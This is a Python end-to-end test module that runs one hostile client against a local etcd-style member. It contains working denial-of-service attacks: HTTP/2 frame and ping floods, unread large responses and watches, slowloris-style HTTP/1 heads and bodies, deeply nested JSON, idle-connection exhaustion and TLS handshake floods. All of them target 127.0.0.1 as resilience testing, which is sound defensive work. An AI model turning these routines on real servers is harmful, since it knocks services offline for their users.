"""One hostile client as a process: attacks until it is ended.

    python -m tests.e2e.attacks.attacker NAME PORT TLS_PORT

One connection at a time where it floods, IDLE_CONNECTIONS where it dawdles; what the member closes is opened again at
once. `ATTACKS` has all names.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import random
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from functools import partial
from typing import Final

from etcdpy.pb import rpc_pb2
from tests.e2e.attacks.floods import FLOODS, UPLOADS, Flood, requests
from tests.unit.transport import wire

RANGE: Final = b"/etcdserverpb.KV/Range"
PUT: Final = b"/etcdserverpb.KV/Put"
# What the campaign puts there: an answer of 8 MiB.
LARGE_RANGE: Final = rpc_pb2.RangeRequest(key=b"large/", range_end=b"large0").SerializeToString()
WATCH: Final = b"/etcdserverpb.Watch/Watch"
WATCH_ALL: Final = rpc_pb2.WatchRequest(
    create_request=rpc_pb2.WatchCreateRequest(key=b"\0", range_end=b"\0", start_revision=1)
).SerializeToString()
IDLE_CONNECTIONS: Final = 200
# Frames that are joined for one write, and how many of those before it begins anew.
PIECES_PER_WRITE: Final = 500
WRITES_MAX: Final = 2000
# How long it holds on to a member that listens no more.
STUCK_SECONDS: Final = 5.0
HTTP_HOST: Final = b"Host: localhost\r\n"


class Target:
    def __init__(self, port: int, tls_port: int) -> None:
        self.port = port
        self.tls_port = tls_port


Attack = Callable[[Target], None]


# ---- one connection, as fast as the member takes it


class Script:
    """The bytes of one connection, made once."""

    def __init__(self, frames: Iterator[bytes]) -> None:
        self._frames = frames
        self._made: list[bytes] = []

    def __iter__(self) -> Iterator[bytes]:
        for at in range(WRITES_MAX):
            if at == len(self._made):
                self._made.append(b"".join(itertools.islice(self._frames, PIECES_PER_WRITE)))
            if not self._made[at]:
                return
            yield self._made[at]


def flood(target: Target, *, frames: Iterator[bytes], reads: bool = True) -> None:
    script = Script(frames)
    while True:
        with contextlib.suppress(OSError), wire.connect(target.port) as sock:
            pour(sock, script, reads=reads)


def pour(sock: socket.socket, script: Script, *, reads: bool) -> None:
    """Send until the other side closes or has taken nothing for STUCK_SECONDS."""
    sock.setblocking(False)
    moved_at = time.monotonic()
    for piece in script:
        waiting = memoryview(piece)
        while waiting:
            readable, writable, _ = select.select([sock] if reads else [], [sock], [], 0.5)
            if readable and not sock.recv(1 << 20):
                return
            if writable:
                waiting = waiting[sock.send(waiting) :]
                moved_at = time.monotonic()
            elif time.monotonic() - moved_at > STUCK_SECONDS:
                return


def noise(target: Target) -> None:
    rng = random.Random(1)
    openings = (b"", wire.PREFACE, wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0))
    for opening in itertools.cycle(openings):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", target.port), 10) as sock:
            sock.sendall(opening + rng.randbytes(20_000))
            sock.shutdown(socket.SHUT_WR)
            wire.read_to_end(sock)


def http1_flood(target: Target, *, opening: bytes, more: bytes) -> None:
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", target.port), 10) as sock:
            sock.sendall(opening)
            pour(sock, Script(itertools.repeat(more)), reads=True)


def deep_json(target: Target) -> None:
    body = b'{"success":[{"requestTxn":' * 40_000
    head = b"POST /v3/kv/txn HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n" % (HTTP_HOST, len(body))
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", target.port), 10) as sock:
            sock.sendall(head + body)
            sock.recv(65536)


def handshakes(target: Target) -> None:
    """Whole handshakes, one after the other, without a word afterwards."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    while True:
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", target.tls_port), 10) as raw,
            context.wrap_socket(raw),
        ):
            pass


# ---- many connections that say next to nothing


def dawdle(target: Target, *, opening: bytes, more: bytes = b"", tls: bool = False) -> None:
    """Keep IDLE_CONNECTIONS open, and say a little on each once a second; open again what was closed."""
    port = target.tls_port if tls else target.port
    open_ones: list[socket.socket] = []
    while True:
        open_ones = [sock for sock in open_ones if is_open(sock, more)]
        while len(open_ones) < IDLE_CONNECTIONS:
            try:
                sock = socket.create_connection(("127.0.0.1", port), 10)
            except OSError:
                break
            sock.setblocking(False)
            if is_open(sock, opening):
                open_ones.append(sock)
        time.sleep(1)


def is_open(sock: socket.socket, says: bytes) -> bool:
    try:
        if says:
            sock.send(says)
        if sock.recv(65536):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    sock.close()
    return False


def client_hello() -> bytes:
    """Return how a client begins a handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    outgoing = ssl.MemoryBIO()
    handshake = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return outgoing.read()


def of_flood(make: Flood) -> Attack:
    return lambda target: flood(target, frames=make(PUT))


def attacks() -> dict[str, Attack]:
    large = partial(requests, RANGE, LARGE_RANGE)
    chunked = b"POST /v3/kv/put HTTP/1.1\r\n" + HTTP_HOST + b"Transfer-Encoding: chunked\r\n\r\n"
    slow_body = b"POST /v3/kv/put HTTP/1.1\r\n" + HTTP_HOST + b"Content-Length: 1000000\r\n\r\n"
    hello = client_hello()
    return {
        **{name: of_flood(make) for name, make in (FLOODS | UPLOADS).items()},
        "ping, never reading": lambda target: flood(target, frames=FLOODS["ping"](PUT), reads=False),
        "settings, never reading": lambda target: flood(target, frames=FLOODS["settings"](PUT), reads=False),
        "answers that nobody reads": lambda target: flood(target, frames=large(), reads=False),
        "answers without a window": lambda target: flood(target, frames=large()),
        "watches that nobody reads": lambda target: flood(target, frames=requests(WATCH, WATCH_ALL), reads=False),
        "noise": noise,
        "http1: endless head": partial(http1_flood, opening=b"GET / HTTP/1.1\r\n" + HTTP_HOST + b"a: ", more=b"b" * 99),
        "http1: many fields": partial(http1_flood, opening=b"GET / HTTP/1.1\r\n" + HTTP_HOST, more=b"a: b\r\n"),
        "http1: chunks of a byte": partial(http1_flood, opening=chunked, more=b"1\r\nx\r\n"),
        "http1: deep json": deep_json,
        "http1: slow heads": partial(dawdle, opening=b"GET / HTTP/1.1\r\n", more=b"a"),
        "http1: slow bodies": partial(dawdle, opening=slow_body, more=b"a"),
        "silent connections": partial(dawdle, opening=b""),
        "half a preface": partial(dawdle, opening=wire.PREFACE[:10]),
        "idle HTTP/2": partial(dawdle, opening=wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0)),
        "slow headers": partial(
            dawdle, opening=wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0) + wire.frame(wire.HEADERS, 0, 1, b"")
        ),
        "tls: slow handshakes": partial(dawdle, opening=hello[:40], more=b"", tls=True),
        "tls: half handshakes": partial(dawdle, opening=hello, tls=True),
        "tls: handshake flood": handshakes,
    }


def main() -> None:
    os.nice(19)  # elsewhere it would have a machine of its own: it shall not win by taking the member's
    name, port, tls_port = sys.argv[1:]
    attacks()[name](Target(int(port), int(tls_port)))


if __name__ == "__main__":
    main()
